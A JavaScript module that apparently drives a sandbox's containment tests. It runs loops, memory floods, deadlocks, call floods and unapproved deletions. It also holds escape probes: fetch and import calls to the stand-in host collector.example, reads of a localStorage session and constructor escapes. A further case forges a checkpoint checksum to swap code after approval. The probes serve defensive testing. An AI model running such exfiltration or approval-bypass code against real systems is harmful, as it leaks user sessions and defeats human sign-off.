/*
 * Owns the programs that misbehave, and running one of them. What must hold: after each attempt another program runs in the same sandbox, and its answer is
 * part of the report; what is reported is what the sandbox said, in its words; their limits are small, so that each ends soon, and nothing of them touches
 * the app's data. Deliberately absent: drawing (misbehave.js).
 */

const tries = [
  "fetch('https://collector.example/')",
  'document.body.remove()',
  "localStorage.getItem('session')",
  "eval('1 + 1')",
  "customers.list.constructor('return this')()",
  "(async () => {}).constructor('return globalThis')()",
  "import('https://collector.example/more.js')",
];

const getOut = `const attempts = {
${tries.map((text, at) => `  ${at + 1}: () => ${text},`).join('\n')}
};
const outcomes = [];
for (const [no, attempt] of Object.entries(attempts)) {
  try {
    outcomes.push({ no, got: String(await attempt()) });
  } catch (error) {
    outcomes.push({ no, got: \`\${error.name}: \${error.message}\` });
  }
}
return outcomes;`;

export const attempts = [
  {
    id: 'loop',
    title: 'An endless loop',
    note: 'Limit: 500 ms. The clock is the page’s, and it ends the worker.',
    code: 'let spins = 0;\nwhile (true) {\n  spins += 1;\n}',
    limits: { timeoutMs: 500 },
    expect: 'Timeout',
  },
  {
    id: 'memory',
    title: 'All the memory there is',
    note: 'Limit: 16 MiB, of the engine’s own memory.',
    code: "let page = 'row;';\nwhile (true) {\n  page += page;\n}",
    limits: { memoryBytes: 16 * 2 ** 20 },
    expect: 'MemoryLimit',
  },
  {
    id: 'recursion',
    title: 'Recursion without an end',
    note: 'A node that is its own parent.',
    code: 'const total = node => node.amount + total(node.parent);\nconst root = { amount: 1 };\nroot.parent = root;\nreturn total(root);',
    expect: 'StackOverflow',
  },
  {
    id: 'deadlock',
    title: 'Waiting for what can’t come',
    note: 'Nothing is under way that could settle it. That is found at once, not after a timeout.',
    code: 'const answer = new Promise(() => {});\nreturn await answer;',
    expect: 'Deadlock',
  },
  {
    id: 'flood',
    title: 'A flood of calls',
    note: 'Limit: 20 calls in one run.',
    code: "while (true) {\n  await orders.of({ email: 'mira@voss.example' });\n}",
    limits: { calls: 20 },
    expect: 'CallLimit',
  },
  {
    id: 'unasked',
    title: 'Deleting without asking',
    note: 'In this run nobody can say yes, so a marked call throws.',
    code: 'const all = await customers.list();\nfor (const { id } of all) {\n  await customers.remove({ id });\n}',
    expect: 'ApprovalRejected',
  },
  {
    id: 'escape',
    title: 'Getting out',
    note: 'The network, the page, storage, and functions made of text. The code catches each error and returns them all.',
    code: getOut,
    expect: 'completed',
  },
  {
    id: 'swap',
    title: 'Another program than you were shown',
    note: 'While the card waits, somebody who can write to the store changes the code of the run and mends its checksum. Then the card is approved.',
    code: "await customers.remove({ id: 'c-205' });",
    swapped: "await customers.remove({ id: 'c-201' });",
    expect: 'ReplayMismatch',
  },
];

/** What has to run after each of them, as if nothing had been. */
export const NEXT = 'return 6 * 7';

/** Runs one: `{ name, message, line, ms, calls, value, next, nextMs }`. `fresh` makes a sandbox that shares no store with the first. */
export async function attemptIn(sandbox, fresh, attempt, signal) {
  const since = performance.now();
  const result = await (attempt.swapped ? swap : plain)(sandbox, fresh, attempt, signal);
  const ms = performance.now() - since;
  const { error, calls } = result;
  const after = performance.now();
  const next = signal.aborted ? undefined : await sandbox.run({ code: NEXT, signal });
  return {
    ...{ ms, name: error?.name ?? result.status, message: error?.message, line: error?.line, value: result.value },
    ...{ calls: calls.length, ran: calls.filter(({ state }) => state === 'fulfilled').length },
    ...{ next: next?.value, nextMs: performance.now() - after },
  };
}

const plain = (sandbox, _, { code, limits = {} }, signal) => sandbox.run({ code, limits, signal });

async function swap(sandbox, fresh, { code, swapped }, signal) {
  const shown = await sandbox.run({ code, approval: { mode: 'collect' }, signal });
  if (shown.status !== 'pending') return shown;
  const other = fresh();
  try {
    return await other.resume(await sealed({ ...shown.checkpoint, code: swapped }), { all: 'approve' }, { signal });
  } finally {
    await other.dispose();
    await sandbox.discard(shown.runId);
  }
}

/** A checkpoint with a checksum that fits, as docs/checkpoint-format.md says it is made. Only a `signingKey` stops that. */
async function sealed({ digest: _, ...rest }) {
  const text = new TextEncoder().encode(JSON.stringify(sorted(rest)));
  const hash = new Uint8Array(await crypto.subtle.digest('SHA-256', text));
  return { ...rest, digest: Array.from(hash, byte => byte.toString(16).padStart(2, '0')).join('') };
}

function sorted(value) {
  if (Array.isArray(value)) return value.map(sorted);
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.keys(value)
      .sort()
      .map(key => [key, sorted(value[key])]),
  );
}
